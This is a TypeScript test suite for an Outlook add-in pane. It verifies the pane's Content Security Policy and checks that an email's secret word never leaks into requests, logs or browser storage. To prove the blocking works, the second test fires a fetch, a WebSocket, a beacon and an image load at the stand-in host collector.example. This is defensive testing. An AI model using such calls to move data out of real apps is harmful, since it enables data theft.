import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { MailServer } from '../../emulator/outlook/mail-server';
import { builtFolder, openOutlook, pane } from './harness/emulator';
import { officeForTests } from './harness/office';
import { writeDraft } from './harness/pane-steps';
import { eventually } from '../eventually';

/* Who the pane may speak to, and where a message's words are found after an hour's work: nowhere but in its memory. */

declare global {
  interface Window {
    fairCopyStopped?: string[];
  }
}

const secret = 'Quendrillow';
const mail = new MailServer();

beforeAll(async () => {
  const [first] = mail.mailbox.folder('inbox');
  if (first === undefined) throw new Error('empty');
  const text = `Hello Paul,\n\nthis is ${secret}. Can you ring me by Friday about the damp? You never answered my last email.\n`;
  mail.mailbox.put({
    ...first,
    id: `${first.id}Q`,
    subject: `Damp ${secret}`,
    text,
    html: `<p>${text}</p>`,
    received: '2026-11-22T10:00:00.000Z',
  });
});
const office = officeForTests(() => ({ mail }));

const connectOf = (policy: string): readonly string[] => (/connect-src ([^;"]+)/.exec(policy)?.[1] ?? '').trim().split(/\s+/).sort();
const allowed = ["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com'];

test('the pane’s own policy and the gateway’s name the same peers: itself, Graph and the sign-in', () => {
  const page = readFileSync(resolve(builtFolder, 'pane', 'taskpane.html'), 'utf8');
  expect(connectOf(page)).toEqual(allowed);
  const gateway = readFileSync('src/gateway/pane-files.ts', 'utf8');
  const named = connectOf(gateway);
  expect(named.filter((peer) => !allowed.includes(peer))).toEqual([]);
  expect(named).toEqual(expect.arrayContaining(allowed));
});

test('a fetch, a socket, a beacon and a picture to anywhere else are stopped in the pane', async () => {
  const { page, network } = await office.newPage();
  await openOutlook(page, office.address, { show: 'outlook-message' });
  const frame = await pane(page);
  await frame.getByRole('button', { name: 'Draft a reply' }).waitFor();
  const outcomes = await frame.evaluate(async () => {
    const stopped: string[] = (window.fairCopyStopped = []);
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      stopped.push(`${effectiveDirective} ${blockedURI}`),
    );
    const outcomes: string[] = [];
    await fetch('https://collector.example/?q=1').then(
      () => outcomes.push('fetched'),
      () => outcomes.push('refused'),
    );
    try {
      new WebSocket('wss://collector.example/socket');
    } catch {
      outcomes.push('refused');
    }
    navigator.sendBeacon('https://collector.example/beacon', 'x');
    const picture = new Image();
    picture.src = 'https://collector.example/dot.png';
    return outcomes;
  });
  expect(outcomes).not.toContain('fetched');
  // Each of the four is stopped in its own time.
  await eventually(async () =>
    expect([...new Set(await frame.evaluate(() => window.fairCopyStopped ?? []))].sort()).toEqual([
      'connect-src https://collector.example/?q=1',
      'connect-src https://collector.example/beacon',
      'connect-src wss://collector.example/socket',
      'img-src https://collector.example/dot.png',
    ]),
  );
  // Stopped by the policy: the request never came to the network, where the watch would have refused it.
  expect(network.strangers).toEqual([]);
  await page.context().close();
});

test('reading, ranking and answering leave a message’s words in no address, no log, no store', async () => {
  const { page, network } = await office.newPage();
  await openOutlook(page, office.address, { show: 'outlook-inbox' });
  let frame = await pane(page);
  await frame.getByText('What needs me first').click();
  await frame.getByText(/messages, read at/).waitFor();
  await page.evaluate((words) => window.fairCopyEmulator.outlook?.openBySubject(words), `Damp ${secret}`);
  await frame.getByRole('button', { name: 'Back', exact: true }).click();
  frame = await pane(page);
  await frame.getByRole('button', { name: /Draft a reply/ }).click();
  await frame.locator('[id^="reply-"]').first().click();
  await writeDraft(frame);
  await frame.getByRole('heading', { level: 1, name: 'Your reply' }).waitFor();
  const ofPane = network.requests.filter(({ url }) => url.startsWith(office.paneAddress));
  expect(ofPane.filter(({ url }) => decodeURIComponent(url).includes(secret))).toEqual([]);
  expect(ofPane.filter(({ body }) => body.includes(secret))).toEqual([]);
  expect(network.console.filter((line) => line.includes(secret))).toEqual([]);
  const stored = await frame.evaluate(async () => ({
    local: JSON.stringify(window.localStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    cookies: document.cookie,
    address: location.href,
  }));
  expect(JSON.stringify(stored)).not.toContain(secret);
  expect([stored.databases, stored.caches, stored.cookies]).toEqual([[], [], '']);
  await page.context().close();
});
